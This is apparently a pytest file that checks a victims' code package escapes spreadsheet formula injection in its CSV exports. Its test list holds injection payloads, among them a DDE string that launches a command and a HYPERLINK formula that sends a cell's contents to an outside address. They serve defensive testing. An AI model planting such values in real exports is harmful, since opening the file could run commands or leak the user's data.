"""CSV that a spreadsheet opens runs nothing, whatever the record says."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest

import victims_code
import victims_code as vc
from shared.engines import tables_of
from victims_code import bulk
from victims_code.commissioning.returns import Return
from victims_code.render.csvs import csv_text

CODE = vc.VictimsCode.load()
DANGEROUS = [
    "=1+1",
    "+44 20",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.org?"&A1,"x")',
]


def rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def harmless(cell):
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_dangerous_reference_is_text_in_every_csv_of_an_assessment(value):
    case = vc.Case(
        reference=value,
        victims=[vc.Victim(reference=value, facts={"injured-by-violent-crime": True})],
        offence=vc.Offence(committed_on=date(2026, 3, 31)),
        events=[vc.Event(event="suspect-arrested", at=date(2026, 4, 2), suspect=value)],
    )
    result = CODE.assess(case, as_at=date(2026, 4, 20))
    for text in (result.to_csv(), result.windows_to_csv()):
        found = rows(text)
        assert found
        assert {row["reference"] for row in found} == {"'" + value}
        assert all(harmless(cell) for row in found for cell in row.values())


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_dangerous_note_of_a_return_is_text_and_reads_back(value):
    line = {"provider": "harbour", "period": "2025-26 Q1", "section": "output", "measure": "supported", "value": 565}
    given = Return(source="x", lines=Return.from_json(vc_json([{**line, "note": value}])).lines)
    text = given.to_csv()
    (row,) = rows(text)
    assert row["note"] == "'" + value.strip()
    assert Return.from_csv(text).lines[0].note == value.strip()


def vc_json(lines):
    import json

    return json.dumps({"lines": lines})


def test_a_list_that_begins_dangerously_is_text():
    assert rows(csv_text(("names",), [(["=a", "b"],)])) == [{"names": "'=a; b"}]


def test_numbers_truths_and_ordinary_text_are_left_as_they_are():
    text = csv_text(("a", "b", "c", "d", "e"), [(-3, True, None, "22/0412/26", "a=b")])
    assert text == "a,b,c,d,e\r\n-3,true,,22/0412/26,a=b\r\n"


def test_dangerous_references_are_text_in_the_csv_of_the_bulk_engine(tmp_path):
    cases = [
        vc.Case(
            reference=value,
            victims=[vc.Victim(reference=value)],
            events=[vc.Event(event="suspect-arrested", at=date(2026, 4, 2), suspect=value)],
        )
        for value in DANGEROUS
    ]
    with bulk.assess(bulk.Tables(**tables_of(cases)), as_at=date(2026, 4, 20)) as answer:
        answer.to_csv(tmp_path / "obligations.csv")
        assert {row["case_ref"] for row in answer.obligations.to_dicts()} == set(DANGEROUS)
    found = rows((tmp_path / "obligations.csv").read_bytes().decode("utf-8"))
    assert {row["case_ref"] for row in found} == {"'" + value for value in DANGEROUS}
    assert all(harmless(cell) for row in found for cell in row.values())


def test_all_csv_is_written_in_one_place():
    package = Path(victims_code.__file__).parent
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if "csv" in (text := path.read_text(encoding="utf-8"))
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv"
    }
    assert writers == {"render/csvs.py"}
